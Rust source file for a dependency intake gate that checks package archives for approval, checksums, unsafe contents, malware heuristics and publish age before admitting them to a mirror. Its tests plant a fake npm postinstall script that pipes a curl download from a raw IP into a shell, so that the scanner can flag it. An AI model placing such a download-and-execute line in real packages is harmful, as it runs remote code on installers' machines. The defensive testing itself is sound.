//! Dependency intake: deciding whether the archive a registry served may enter the curated
//! mirror (`zt deps intake PKG@VERSION --ecosystem E --archive FILE`).
//!
//! [`decide`] runs every check and collects every reason; nothing is written:
//!
//! 1. **approval** — the package has an approved request ([`requests`]) or is already in
//!    the lockfile given with `--lockfile` (an existing dependency); otherwise
//!    `no-approved-request`;
//! 2. **checksum** — the archive's SHA-256 / SHA-512 (or Go `h1:`) matches the lockfile
//!    entry and/or the registry index entry ([`expect`]); a mismatch is
//!    `checksum-mismatch`, a source without a usable hash `checksum-missing`; a version the
//!    registry yanked is `yanked`;
//! 3. **archive** — it unpacks safely in memory ([`archive`]): `archive-unsafe-path`,
//!    `archive-too-large`, `archive-malformed`;
//! 4. **malware** — static heuristics ([`malware`]); any `deny` finding rejects with its
//!    rule id;
//! 5. **quarantine age** — a version published less than
//!    `thresholds.min_package_age_hours` ago is **held**; without a publish time (a
//!    lockfile alone, an index entry without one) the age is unknown and the package is
//!    held too, unless the caller allows unknown ages (`--allow-unknown-age`): fail closed.
//!
//! The verdict is `rejected` if any reason rejects, else `held` if the age holds it, else
//! `admitted`. The caller signs the decision, then puts an admitted archive into the
//! [`mirror`].
//!
//! ```no_run
//! # fn main() -> Result<(), zt_deps::Error> {
//! use zt_deps::intake::{Candidate, Policy, decide};
//! let c = Candidate::new(zt_deps::Ecosystem::CratesIo, "serde", "1.0.200",
//!     std::path::Path::new("serde-1.0.200.crate"));
//! let d = decide(&c, &[], &Policy::default(), None, 1_700_000_000)?;
//! println!("{:?}", d.verdict);
//! # Ok(()) }
//! ```

pub mod archive;
pub mod dynamic;
pub mod expect;
pub mod malware;
pub mod mirror;
pub mod provenance;
pub mod requests;

use std::path::{Path, PathBuf};

use zt_core::{Digest, DigestAlgorithm};

use crate::{Ecosystem, Error};
pub use expect::{ChecksumSource, Expectation};

/// The package version offered for intake.
#[derive(Debug, Clone)]
pub struct Candidate {
    /// Its ecosystem.
    pub ecosystem: Ecosystem,
    /// Its name.
    pub name: String,
    /// Its version.
    pub version: String,
    /// The archive the registry served.
    pub archive: PathBuf,
}

impl Candidate {
    /// A candidate.
    pub fn new(ecosystem: Ecosystem, name: &str, version: &str, archive: &Path) -> Self {
        Self {
            ecosystem,
            name: name.into(),
            version: version.into(),
            archive: archive.into(),
        }
    }

    /// Its package URL.
    pub fn purl(&self) -> String {
        crate::purl::purl(self.ecosystem, &self.name, &self.version)
    }
}

/// The settings of one intake.
#[derive(Debug, Clone)]
pub struct Policy {
    /// Versions younger than this are held (`thresholds.min_package_age_hours`).
    pub min_age_hours: u64,
    /// Admit when the publish time is unknown (`--allow-unknown-age`).
    pub allow_unknown_age: bool,
    /// Archive size limits.
    pub limits: archive::Limits,
    /// The malware rules: zt's built-in ones plus `[deps.malware] rules` folders
    /// ([`malware::RuleSet::load`]); `None` means the built-in ones.
    pub rules: Option<std::sync::Arc<malware::RuleSet>>,
    /// Upstream provenance: the requirement, the expected repository, what was verified.
    pub provenance: provenance::Provenance,
    /// Deny findings reviewers accepted, each for one archive (`[[deps.malware.accept]]`).
    pub accept: Vec<zt_core::config::MalwareAccept>,
    /// The platforms the mirror serves (`[deps.malware] platforms`); empty: every one.
    pub platforms: Vec<malware::Platform>,
}

impl Default for Policy {
    fn default() -> Self {
        Self {
            min_age_hours: 72,
            allow_unknown_age: false,
            limits: archive::Limits::default(),
            rules: None,
            provenance: provenance::Provenance::default(),
            accept: Vec::new(),
            platforms: Vec::new(),
        }
    }
}

/// The outcome.
#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Verdict {
    /// Enters the mirror.
    Admitted,
    /// Too new (or of unknown age): try again later.
    Held,
    /// Never enters the mirror.
    Rejected,
}

/// One reason that rejects or holds.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Reason {
    /// Stable id: `checksum-mismatch`, a malware rule id, `too-new`, …
    pub rule: String,
    /// Whether it holds rather than rejects.
    pub hold: bool,
    /// Human text.
    pub message: String,
}

/// One checksum comparison.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct ChecksumCheck {
    /// Lockfile or index.
    pub source: ChecksumSource,
    /// The file.
    pub file: String,
    /// The entry's line, where known.
    pub line: Option<usize>,
    /// The algorithm compared (`sha256`, `sha512`, `h1`), if any usable.
    pub algorithm: Option<String>,
    /// The expected values of that algorithm.
    pub expected: Vec<String>,
    /// The archive's value.
    pub actual: Option<String>,
    /// Whether it matched.
    pub matched: bool,
}

/// The age check.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct AgeCheck {
    /// Publish time (RFC 3339), if known.
    pub published: Option<String>,
    /// Whole hours since publication, if known.
    pub age_hours: Option<i64>,
    /// The threshold.
    pub min_age_hours: u64,
    /// `ok`, `too-new`, `unknown` (held), `unknown-allowed`.
    pub status: &'static str,
}

/// The full decision; this is the predicate of the signed intake statement.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct Decision {
    /// Package URL.
    pub purl: String,
    /// OSV ecosystem.
    pub ecosystem: &'static str,
    /// Name.
    pub name: String,
    /// Version.
    pub version: String,
    /// The archive's file name.
    pub archive: String,
    /// SHA-256 of the archive (hex).
    pub sha256: String,
    /// Its size.
    pub size: u64,
    /// The verdict.
    pub verdict: Verdict,
    /// Every reason that rejects or holds.
    pub reasons: Vec<Reason>,
    /// Why the package may be taken at all: `request REQ-…` or `lockfile FILE`.
    pub approval: Option<String>,
    /// Checksum comparisons.
    pub checksums: Vec<ChecksumCheck>,
    /// Age.
    pub age: AgeCheck,
    /// Members read from the archive.
    pub files: usize,
    /// Heuristic findings (warn and deny).
    pub findings: Vec<malware::Finding>,
    /// The reviewers' acceptances that turned deny findings of this archive into warnings.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub accepted: Vec<malware::accept::Accepted>,
    /// Upstream provenance, when it was asked for or given.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub provenance: Option<provenance::ProvenanceCheck>,
    /// What the install-time code did in the sandbox (`--dynamic`).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub dynamic: Option<dynamic::Report>,
    /// When decided (RFC 3339).
    pub decided_at: String,
}

/// Decides; `expectations` are the lockfile and/or index entries, `approval` the approved
/// request or lockfile that makes the package wanted (`None`: not approved), `now` Unix
/// seconds. Reads the archive; writes nothing.
pub fn decide(
    c: &Candidate,
    expectations: &[Expectation],
    policy: &Policy,
    approval: Option<String>,
    now: i64,
) -> Result<Decision, Error> {
    let archive_name = c
        .archive
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_default();
    // The archive is never held whole in memory: digested, then read member by member.
    let size = fs_err::metadata(&c.archive)?.len();
    let digest = |algorithm| -> Result<Digest, Error> {
        let file = std::io::BufReader::with_capacity(1 << 16, fs_err::File::open(&c.archive)?);
        Ok(Digest::of_reader(algorithm, file)?)
    };
    let sha256 = digest(DigestAlgorithm::Sha256)?;
    let sha512 = digest(DigestAlgorithm::Sha512)?;
    let mut reasons = Vec::new();
    let reject = |rule: &str, message: String| Reason {
        rule: rule.into(),
        hold: false,
        message,
    };
    if approval.is_none() {
        reasons.push(reject(
            "no-approved-request",
            format!(
                "`{}` has no approved request and is not in the lockfile: run `zt deps request {} --ecosystem {} --justification … --maintenance-plan …` and have someone else approve it",
                c.name,
                c.name,
                c.ecosystem.name()
            ),
        ));
    }

    // the archive, read as a stream: each file scanned as it is read, only the few the
    // install-hook heuristics need (and a Go module's, hashed together) kept
    let builtin;
    let rules = match &policy.rules {
        Some(r) => r.as_ref(),
        None => {
            builtin = malware::RuleSet::builtin()?;
            &builtin
        }
    };
    let scanned = match scan_archive(c, &archive_name, policy.limits, rules) {
        Ok(s) => Some(s),
        Err(Error::Archive(e)) => {
            reasons.push(reject(e.rule_id(), e.to_string()));
            None
        }
        Err(e) => return Err(e),
    };

    // checksums
    let h1 = match (&scanned, c.ecosystem) {
        (Some(s), Ecosystem::Go) => Some(expect::go_h1(&s.kept)),
        _ => None,
    };
    if expectations.is_empty() {
        reasons.push(reject(
            "checksum-missing",
            "no lockfile entry or index entry to check the checksum against: pass `--lockfile` or `--index`".into(),
        ));
    }
    let mut checksums = Vec::new();
    for x in expectations {
        let pick = ["sha512", "sha256", "h1"].into_iter().find_map(|alg| {
            let vals: Vec<String> = x
                .hashes
                .iter()
                .filter(|h| h.algorithm == alg)
                .map(|h| h.value.clone())
                .collect();
            (!vals.is_empty()).then_some((alg, vals))
        });
        let file = x.file.display().to_string();
        let what = match x.source {
            ChecksumSource::Lockfile => "lockfile",
            ChecksumSource::Index => "index",
        };
        let Some((alg, expected)) = pick else {
            reasons.push(reject(
                "checksum-missing",
                format!("the {what} entry in `{file}` records no SHA-256, SHA-512 or h1 checksum"),
            ));
            checksums.push(ChecksumCheck {
                source: x.source,
                file,
                line: x.line,
                algorithm: None,
                expected: x
                    .hashes
                    .iter()
                    .map(|h| format!("{}:{}", h.algorithm, h.value))
                    .collect(),
                actual: None,
                matched: false,
            });
            continue;
        };
        let actual = match alg {
            "sha512" => Some(sha512.hex()),
            "sha256" => Some(sha256.hex()),
            _ => h1.clone(),
        };
        let matched = actual
            .as_ref()
            .is_some_and(|a| expected.iter().any(|e| e.eq_ignore_ascii_case(a)));
        if !matched {
            reasons.push(reject(
                "checksum-mismatch",
                format!(
                    "{alg} of the archive is {} but the {what} entry in `{file}`{} says {}",
                    actual
                        .as_deref()
                        .unwrap_or("unknown (the archive could not be read)"),
                    x.line.map(|l| format!(" (line {l})")).unwrap_or_default(),
                    expected.join(" or ")
                ),
            ));
        }
        if x.yanked {
            reasons.push(reject(
                "yanked",
                format!("the registry marks {} {} as yanked", c.name, c.version),
            ));
        }
        checksums.push(ChecksumCheck {
            source: x.source,
            file,
            line: x.line,
            algorithm: Some(alg.into()),
            expected,
            actual,
            matched,
        });
    }

    // malware
    let (files, mut findings) = scanned.map_or((0, Vec::new()), |s| (s.files, s.findings));
    let sha256_hex = sha256.hex();
    malware::settle_platforms(&mut findings, &policy.platforms);
    let mut accepted = Vec::new();
    malware::accept::apply(
        &mut findings,
        &policy.accept,
        malware::accept::Archive {
            name: &c.name,
            version: &c.version,
            sha256: &sha256_hex,
        },
        &mut accepted,
    );
    // one reason per rule and file (the findings list has every line)
    let mut seen = std::collections::BTreeSet::new();
    for f in findings
        .iter()
        .filter(|f| f.severity == malware::Severity::Deny)
        .filter(|f| seen.insert((f.rule.as_str(), f.file.as_str())))
    {
        reasons.push(reject(
            &f.rule,
            format!(
                "{}{}: {} ({} in {})",
                f.file,
                f.line.map(|l| format!(":{l}")).unwrap_or_default(),
                f.message,
                f.context.name(),
                f.source.file.as_deref().unwrap_or(match f.source.kind {
                    malware::SourceKind::Heuristic => "zt's built-in heuristics",
                    malware::SourceKind::Semgrep => "a semgrep rule",
                    malware::SourceKind::Yara => "a YARA rule",
                    malware::SourceKind::Dynamic => "the sandboxed install run",
                })
            ),
        ));
    }

    // upstream provenance
    let package = crate::purl::purl(c.ecosystem, &c.name, "");
    let package = package.trim_end_matches('@');
    let (provenance, reason) = provenance::judge(&policy.provenance, package);
    reasons.extend(reason);

    // age
    let published = expectations.iter().filter_map(|x| x.published).min();
    let age = match published {
        Some(p) => {
            let hours = (now - p).div_euclid(3600);
            let young = now - p
                < i64::try_from(policy.min_age_hours)
                    .unwrap_or(i64::MAX)
                    .saturating_mul(3600);
            if young {
                reasons.push(Reason {
                    rule: "too-new".into(),
                    hold: true,
                    message: format!(
                        "published {} ({hours} h ago); versions are held for {} h (`thresholds.min_package_age_hours`)",
                        zt_core::time::rfc3339(p),
                        policy.min_age_hours
                    ),
                });
            }
            AgeCheck {
                published: Some(zt_core::time::rfc3339(p)),
                age_hours: Some(hours),
                min_age_hours: policy.min_age_hours,
                status: if young { "too-new" } else { "ok" },
            }
        }
        None => {
            if !policy.allow_unknown_age {
                reasons.push(Reason {
                    rule: "age-unknown".into(),
                    hold: true,
                    message: "the publish time is unknown, so the quarantine age could not be checked: pass `--index` with the registry entry, or `--allow-unknown-age`".into(),
                });
            }
            AgeCheck {
                published: None,
                age_hours: None,
                min_age_hours: policy.min_age_hours,
                status: if policy.allow_unknown_age {
                    "unknown-allowed"
                } else {
                    "unknown"
                },
            }
        }
    };

    let verdict = verdict_of(&reasons);
    Ok(Decision {
        purl: c.purl(),
        ecosystem: c.ecosystem.name(),
        name: c.name.clone(),
        version: c.version.clone(),
        archive: archive_name,
        sha256: sha256.hex(),
        size,
        verdict,
        reasons,
        approval,
        checksums,
        age,
        files,
        findings,
        accepted,
        provenance,
        dynamic: None,
        decided_at: zt_core::time::rfc3339(now),
    })
}

/// `rejected` if any reason rejects, else `held` if any holds, else `admitted`.
pub(crate) fn verdict_of(reasons: &[Reason]) -> Verdict {
    if reasons.iter().any(|r| !r.hold) {
        Verdict::Rejected
    } else if reasons.is_empty() {
        Verdict::Admitted
    } else {
        Verdict::Held
    }
}

/// Writes the decision record `.zt/intake/decisions/<sha256 prefix>-<verdict>-<time>.json`
/// (atomic) and returns its path.
pub fn record(repo: &Path, d: &Decision, bundle: Option<&Path>) -> Result<PathBuf, Error> {
    let mut v = serde_json::to_value(d).unwrap_or_default();
    if let (Some(b), Some(obj)) = (bundle, v.as_object_mut()) {
        obj.insert("bundle".into(), b.display().to_string().into());
    }
    let verdict = serde_json::to_value(d.verdict)
        .ok()
        .and_then(|v| v.as_str().map(String::from))
        .unwrap_or_default();
    let path = repo.join(".zt/intake/decisions").join(format!(
        "{}-{}-{verdict}-{}.json",
        d.decided_at.replace(':', ""),
        d.sha256.get(..12).unwrap_or_default(),
        crate::purl::encode(&d.name).replace(['/', '%'], "_"),
    ));
    let mut bytes = serde_json::to_vec_pretty(&v).unwrap_or_default();
    bytes.push(b'\n');
    zt_core::fsutil::write_atomic(&path, &bytes)?;
    Ok(path)
}

/// Threads that scan an archive's files at most (besides the one reading it).
const SCAN_THREADS: usize = 4;

/// What one streaming read of an archive found.
struct Scanned {
    /// Regular files read.
    files: usize,
    /// Every heuristic's findings, sorted.
    findings: Vec<malware::Finding>,
    /// The files kept: those the hook heuristics read, or every file of a Go module zip.
    kept: Vec<archive::Entry>,
}

/// Reads the archive member by member: per-file heuristics on each as it passes, the hook
/// heuristics over the few files kept; an npm package whose hooks run `node FILE` is read
/// a second time for those files. Memory: the largest member plus what is kept.
fn scan_archive(
    c: &Candidate,
    archive_name: &str,
    limits: archive::Limits,
    rules: &malware::RuleSet,
) -> Result<Scanned, Error> {
    let kind = archive::Kind::from_name(archive_name)
        .ok_or_else(|| archive::ArchiveError::UnknownFormat(archive_name.into()))?;
    let platform_wheel = malware::is_platform_wheel(archive_name);
    let keep_all = c.ecosystem == Ecosystem::Go;
    let pass = |visit: archive::Visit<'_>| -> Result<(), Error> {
        let file = fs_err::File::open(&c.archive)?;
        let size = file.metadata()?.len();
        let mut reader = std::io::BufReader::with_capacity(1 << 16, file);
        archive::stream(kind, &mut reader, size, limits, visit)?;
        Ok(())
    };
    let mut scanned = Scanned {
        files: 0,
        findings: Vec::new(),
        kept: Vec::new(),
    };
    let mut yara = rules.package();
    let keep = |e: &archive::Entry| keep_all || malware::kept_for_hooks(&e.path, c.ecosystem);
    let threads = std::thread::available_parallelism().map_or(1, |n| n.get().min(SCAN_THREADS));
    if threads < 2 {
        pass(&mut |e| {
            scanned.files += 1;
            scanned
                .findings
                .extend(malware::scan_entry(&e, platform_wheel, &mut yara));
            if keep(&e) {
                scanned.kept.push(e);
            }
            Ok(())
        })?;
    } else {
        // Files are scanned on `threads` threads while this one reads the archive; the
        // package-wide part of the YARA rules is folded in here in the archive's order, so
        // the findings are those of the sequential scan. At most `2 * threads` files are
        // in memory besides the one being read.
        let (work_tx, work_rx) = std::sync::mpsc::sync_channel::<(usize, archive::Entry)>(threads);
        let work_rx = std::sync::Mutex::new(work_rx);
        let (done_tx, done_rx) = std::sync::mpsc::channel();
        std::thread::scope(|s| -> Result<(), Error> {
            let work_tx = work_tx;
            for _ in 0..threads {
                let (work_rx, done_tx) = (&work_rx, done_tx.clone());
                s.spawn(move || {
                    loop {
                        let next = match work_rx.lock() {
                            Ok(rx) => rx.recv(),
                            Err(_) => break,
                        };
                        let Ok((i, e)) = next else { break };
                        let alone = malware::scan_entry_alone(&e, platform_wheel, rules);
                        if done_tx.send((i, e, alone)).is_err() {
                            break;
                        }
                    }
                });
            }
            drop(done_tx);
            let mut pending = std::collections::BTreeMap::new();
            let (mut sent, mut folded) = (0usize, 0usize);
            // every scan thread is gone (a panic, raised when the scope ends): send no more
            let dead = std::cell::Cell::new(false);
            // waits for results until at most `open` files are in flight, folding in order
            let mut settle = |sent: usize, folded: &mut usize, open: usize| {
                while sent - *folded > open {
                    let Ok((i, e, alone)) = done_rx.recv() else {
                        dead.set(true);
                        return;
                    };
                    pending.insert(i, (e, alone));
                    while let Some((e, alone)) = pending.remove(&*folded) {
                        scanned
                            .findings
                            .extend(malware::fold_entry(&e, alone, &mut yara));
                        *folded += 1;
                    }
                }
            };
            let read = pass(&mut |e| {
                scanned.files += 1;
                if keep(&e) {
                    scanned.kept.push(e.clone());
                }
                if dead.get() {
                    return Ok(());
                }
                if work_tx.send((sent, e)).is_ok() {
                    sent += 1;
                }
                settle(sent, &mut folded, 2 * threads);
                Ok(())
            });
            drop(work_tx);
            read?;
            settle(sent, &mut folded, 0);
            Ok(())
        })?;
    }
    if c.ecosystem == Ecosystem::Npm {
        let targets = malware::npm_hook_targets(&scanned.kept);
        if !targets.is_empty() {
            let mut found = Vec::new();
            pass(&mut |e| {
                if targets.contains(&e.path) && !scanned.kept.iter().any(|k| k.path == e.path) {
                    found.push(e);
                }
                Ok(())
            })?;
            scanned.kept.extend(found);
        }
    }
    scanned
        .findings
        .extend(malware::scan_hooks(&scanned.kept, c.ecosystem));
    malware::settle_native_addons(&mut scanned.findings, &scanned.kept, c.ecosystem);
    let install = malware::install_files(&scanned.kept, c.ecosystem);
    malware::place(&mut scanned.findings, &install);
    malware::sort(&mut scanned.findings);
    Ok(scanned)
}

#[cfg(test)]
mod tests {
    use super::*;
    use archive::{gzip, write_tar};

    fn decide_tgz(members: &[(&str, &[u8], u32)], limits: archive::Limits) -> Decision {
        let tmp = tempfile::tempdir().unwrap();
        let path = tmp.path().join("p-1.0.0.tgz");
        fs_err::write(&path, gzip(&write_tar(members))).unwrap();
        let c = Candidate::new(Ecosystem::Npm, "p", "1.0.0", &path);
        let policy = Policy {
            limits,
            ..Policy::default()
        };
        decide(&c, &[], &policy, Some("test".into()), 0).unwrap()
    }

    /// The archive is read as a stream and only the hook files are kept: the script an npm
    /// hook runs is still found and judged, whether it comes before or after `package.json`.
    #[test]
    fn streamed_scan_still_follows_npm_hooks_either_order() {
        let pkg: &[u8] = br#"{"name":"p","scripts":{"postinstall":"node scripts/x"}}"#;
        let script: &[u8] = b"require('child_process').exec('curl http://1.2.3.4/a | sh')\n";
        let filler = vec![b'a'; 4096];
        for members in [
            [
                ("package/package.json", pkg, 0o644),
                ("package/big.txt", &filler[..], 0o644),
                ("package/scripts/x.js", script, 0o644),
            ],
            [
                ("package/scripts/x.js", script, 0o644),
                ("package/big.txt", &filler[..], 0o644),
                ("package/package.json", pkg, 0o644),
            ],
        ] {
            let d = decide_tgz(&members, archive::Limits::default());
            assert_eq!(d.files, 3);
            let rules: Vec<&str> = d.reasons.iter().map(|r| r.rule.as_str()).collect();
            assert!(rules.contains(&"download-execute"), "{rules:?}");
        }
    }

    /// A Node native addon (a `.node` shared library) warns in a package that declares
    /// native code, like a platform wheel's extension module; a native program, or an addon
    /// in a package that declares none, still rejects.
    #[test]
    fn native_addons_reject_only_where_the_package_declares_no_native_code() {
        use malware::Severity;
        let addon = crate::intake::malware::package_tests::elf(3, &[1, 1, 2]);
        let program = crate::intake::malware::package_tests::elf(3, &[6, 3, 1, 2]);
        let plain: &[u8] = br#"{"name":"p","version":"1.0.0"}"#;
        let gypfile: &[u8] = br#"{"name":"p","version":"1.0.0","gypfile":true}"#;
        let platform: &[u8] = br#"{"name":"p","version":"1.0.0","os":["linux"],"cpu":["x64"]}"#;
        let gyp: &[u8] = b"{ 'targets': [ { 'target_name': 'p', 'sources': [ 'p.cc' ] } ] }\n";
        type Members<'a> = &'a [(&'a str, &'a [u8], u32)];
        let cases: [(Members<'_>, Severity); 6] = [
            (
                &[
                    ("package/prebuilds/linux-x64/p.node", &addon, 0o644),
                    ("package/package.json", plain, 0o644),
                    ("package/binding.gyp", gyp, 0o644),
                ],
                Severity::Warn,
            ),
            (
                &[
                    ("package/package.json", gypfile, 0o644),
                    ("package/build/Release/p.node", &addon, 0o644),
                ],
                Severity::Warn,
            ),
            (
                &[
                    ("package/package.json", platform, 0o644),
                    ("package/p.linux-x64.node", &addon, 0o644),
                ],
                Severity::Warn,
            ),
            (
                &[
                    ("package/package.json", plain, 0o644),
                    ("package/prebuilds/linux-x64/p.node", &addon, 0o644),
                ],
                Severity::Deny,
            ),
            (
                &[
                    ("package/package.json", plain, 0o644),
                    ("package/binding.gyp", gyp, 0o644),
                    ("package/prebuilds/linux-x64/p.node", &program, 0o755),
                ],
                Severity::Deny,
            ),
            (
                &[
                    ("package/package.json", platform, 0o644),
                    ("package/bin/p", &addon, 0o755),
                ],
                Severity::Deny,
            ),
        ];
        for (i, (members, severity)) in cases.into_iter().enumerate() {
            let d = decide_tgz(members, archive::Limits::default());
            let binary: Vec<&malware::Finding> = d
                .findings
                .iter()
                .filter(|f| f.rule == "bundled-binary")
                .collect();
            assert_eq!(binary.len(), 1, "case {i}: {:?}", d.findings);
            assert_eq!(binary[0].severity, severity, "case {i}: {binary:?}");
            // a deny finding is a reason to reject (the others here: no checksum, no age)
            let rejects = d.reasons.iter().any(|r| r.rule == "bundled-binary");
            assert_eq!(
                rejects,
                severity == Severity::Deny,
                "case {i}: {:?}",
                d.reasons
            );
        }
    }

    /// Files are scanned on several threads, but the findings are those of the sequential
    /// scan of the same files: a rule's `max_hits` and its one hit per snippet count in the
    /// archive's order.
    #[test]
    fn the_threaded_scan_finds_what_the_sequential_one_does() {
        let dir = tempfile::tempdir().unwrap();
        fs_err::write(
            dir.path().join("threat-x.yar"),
            "rule threat_x {\n meta:\n  description = \"evals\"\n  severity = \"high\"\n  max_hits = 5\n  path_include = \"*.js\"\n strings:\n  $a = /eval\\([a-z0-9]+\\)/\n condition:\n  $a\n}\n",
        )
        .unwrap();
        let rules =
            std::sync::Arc::new(malware::RuleSet::load(&[dir.path().to_path_buf()]).unwrap());
        let mut files: Vec<(String, Vec<u8>)> = vec![(
            "package/package.json".into(),
            br#"{"name":"p","scripts":{"postinstall":"node install.js"}}"#.to_vec(),
        )];
        for i in 0..60 {
            // the first files are the largest: the threads finish them last
            let pad = if i < 3 {
                "let v = w + 1;\n".repeat(8_000)
            } else {
                String::new()
            };
            files.push((
                format!("package/lib/f{i}.js"),
                format!(
                    "{pad}const a{i} = 1;\neval(a{i});\neval(a{});\nconsole.log(process.env)\n",
                    i % 3
                )
                .into_bytes(),
            ));
        }
        files.push((
            "package/install.js".into(),
            b"require('child_process').exec('curl http://1.2.3.4/a | sh')\n".to_vec(),
        ));
        let members: Vec<(&str, &[u8], u32)> = files
            .iter()
            .map(|(p, d)| (p.as_str(), d.as_slice(), 0o644))
            .collect();
        let tmp = tempfile::tempdir().unwrap();
        let path = tmp.path().join("p-1.0.0.tgz");
        fs_err::write(&path, gzip(&write_tar(&members))).unwrap();
        let c = Candidate::new(Ecosystem::Npm, "p", "1.0.0", &path);
        let policy = Policy {
            rules: Some(rules.clone()),
            ..Policy::default()
        };
        let d = decide(&c, &[], &policy, Some("test".into()), 0).unwrap();
        let entries: Vec<archive::Entry> = files
            .iter()
            .map(|(p, d)| archive::Entry {
                path: p.clone(),
                data: d.clone(),
                executable: false,
            })
            .collect();
        let sequential = malware::scan_package(&entries, Ecosystem::Npm, "p-1.0.0.tgz", &rules);
        assert_eq!(d.findings, sequential);
        let x: Vec<&str> = d
            .findings
            .iter()
            .filter(|f| f.rule == "threat-x")
            .map(|f| f.file.as_str())
            .collect();
        // five hits: distinct snippets, in the first files of the archive
        assert_eq!(x.len(), 5, "{x:?}");
        assert!(
            x.iter()
                .all(|f| ["f0.", "f1.", "f2."].iter().any(|p| f.contains(p))),
            "{x:?}"
        );
        assert!(d.findings.iter().any(|f| f.rule == "download-execute"));
    }

    /// A bomb within the per-member limit but over the unpacked total is refused with a
    /// clear reason (and its members are not all held: each is dropped once scanned).
    #[test]
    fn a_bomb_over_the_total_is_refused_by_name() {
        let zeros = vec![0u8; 1 << 20];
        let limits = archive::Limits {
            max_total: 3 << 20,
            ..archive::Limits::default()
        };
        let d = decide_tgz(
            &[
                ("package/a", &zeros[..], 0o644),
                ("package/b", &zeros[..], 0o644),
                ("package/c", &zeros[..], 0o644),
                ("package/d", &zeros[..], 0o644),
            ],
            limits,
        );
        assert_eq!(d.verdict, Verdict::Rejected);
        let r = d
            .reasons
            .iter()
            .find(|r| r.rule == "archive-too-large")
            .unwrap();
        assert!(
            r.message.ends_with("exceeds the limit of 3145728 bytes"),
            "{}",
            r.message
        );
    }
}
